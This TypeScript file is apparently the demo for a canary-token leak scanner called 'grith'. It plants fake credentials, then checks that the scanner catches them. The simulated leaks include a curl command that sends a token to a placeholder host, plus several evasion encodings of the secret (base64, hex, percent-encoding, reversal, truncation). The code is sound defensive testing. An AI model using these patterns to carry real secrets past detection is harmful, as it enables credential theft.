// The built-in demo: a throw-away home, canaries of several formats, and `grith scan` catching them in plain and
// encoded leaks — plus an ordinary file that must stay clean. Nothing outside a temporary folder is touched.
import { mkdtemp, rm, writeFile, mkdir } from 'node:fs/promises';
import { PassThrough } from 'node:stream';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Canary } from '../../core/canary.js';
import { addCanary } from '../canary-ops.js';
import { scanAndRecord } from '../scan-paths.js';
import { EventLog } from '../../events/event-log.js';
import { CanaryStore } from '../../store/canary-store.js';

export interface DemoRow {
  route: string;
  guard: string;
  verdict: 'caught' | 'MISSED' | 'clean' | 'FALSE POSITIVE';
  variant?: string;
}

export interface DemoResult {
  home: string;
  rows: DemoRow[];
  ok: boolean;
  eventsVerified: boolean;
}

type Leak = { route: string; make: (c: Canary) => string | Buffer; expectHit: boolean };

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
const LEAKS: Leak[] = [
  { route: 'plain token in a shell history line', make: (c) => `curl -H "Authorization: Bearer ${c.value}" https://x.example\n`, expectHit: true },
  { route: 'base64 at offset 1 inside a JSON body', make: (c) => `{"d":"${b64('x' + c.value + '&more')}"}`, expectHit: true },
  { route: 'url-safe base64, unpadded', make: (c) => b64('ab' + c.value).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, ''), expectHit: true },
  { route: 'hex (upper case)', make: (c) => `payload=${Buffer.from(c.value).toString('hex').toUpperCase()}`, expectHit: true },
  { route: 'percent-encoded query string', make: (c) => `GET /?q=${[...Buffer.from(c.value)].map((b) => '%' + b.toString(16).padStart(2, '0')).join('')}`, expectHit: true },
  { route: 'JSON \\u00XX escapes', make: (c) => `{"k":"${[...c.value].map((ch) => '\\u' + ch.charCodeAt(0).toString(16).padStart(4, '0')).join('')}"}`, expectHit: true },
  { route: 'UTF-16LE file', make: (c) => Buffer.from(`token=${c.value}`, 'utf16le'), expectHit: true },
  { route: 'reversed string', make: (c) => `x=${[...c.value].reverse().join('')}`, expectHit: true },
  { route: 'double base64', make: (c) => b64(b64(c.value)), expectHit: true },
  { route: 'prefix stripped and truncated', make: (c) => `key: ${c.value.replace(/^[a-z]+[_-](?:[a-z0-9]+[_-])?/i, '').slice(0, 24)}`, expectHit: true },
  { route: 'ordinary source file (must stay clean)', make: () => "export const answer = 42;\nconsole.log('hello world');\n", expectHit: false },
];

export async function runScanDemo(opts: { onRow?: (row: DemoRow, i: number, total: number) => void } = {}): Promise<DemoResult> {
  const home = await mkdtemp(path.join(os.tmpdir(), 'grith-demo-'));
  try {
    const work = path.join(home, 'workspace');
    await mkdir(work, { recursive: true });
    const formats = ['github-pat', 'aws', 'openai-project', 'stripe-live'];
    const canaries: Canary[] = [];
    for (const f of formats) canaries.push(await addCanary(home, { format: f, label: `demo ${f}` }));
    const rows: DemoRow[] = [];
    let i = 0;
    for (const leak of LEAKS) {
      const canary = canaries[i % canaries.length];
      const file = path.join(work, `leak-${String(i).padStart(2, '0')}.txt`);
      await writeFile(file, leak.make(canary));
      const report = await scanAndRecord(home, [file], new PassThrough());
      const hit = report.findings.find((f) => f.canaryId === canary.id) ?? report.findings[0];
      const row: DemoRow = leak.expectHit
        ? { route: leak.route, guard: 'scan', verdict: hit ? 'caught' : 'MISSED', variant: hit?.variant }
        : { route: leak.route, guard: 'scan', verdict: hit ? 'FALSE POSITIVE' : 'clean' };
      rows.push(row);
      opts.onRow?.(row, i, LEAKS.length + 1);
      i++;
    }
    // A gzip file is opaque to a byte scan: it shows why the proxy decodes Content-Encoding before scanning.
    const gz = path.join(work, 'leak-gzip.bin');
    await writeFile(gz, gzipSync(Buffer.from(canaries[0].value)));
    const gzReport = await scanAndRecord(home, [gz], new PassThrough());
    const gzRow: DemoRow = {
      route: 'gzip-compressed file (scan sees bytes; the proxy decodes gzip)',
      guard: 'scan',
      verdict: gzReport.findings.length > 0 ? 'FALSE POSITIVE' : 'clean',
    };
    rows.push(gzRow);
    opts.onRow?.(gzRow, i, LEAKS.length + 1);
    const verified = await new EventLog(home).verify();
    await (await CanaryStore.open(home, { create: false })).list();
    const ok = rows.every((r) => r.verdict === 'caught' || r.verdict === 'clean') && verified.ok;
    return { home, rows, ok, eventsVerified: verified.ok };
  } finally {
    await rm(home, { recursive: true, force: true });
  }
}
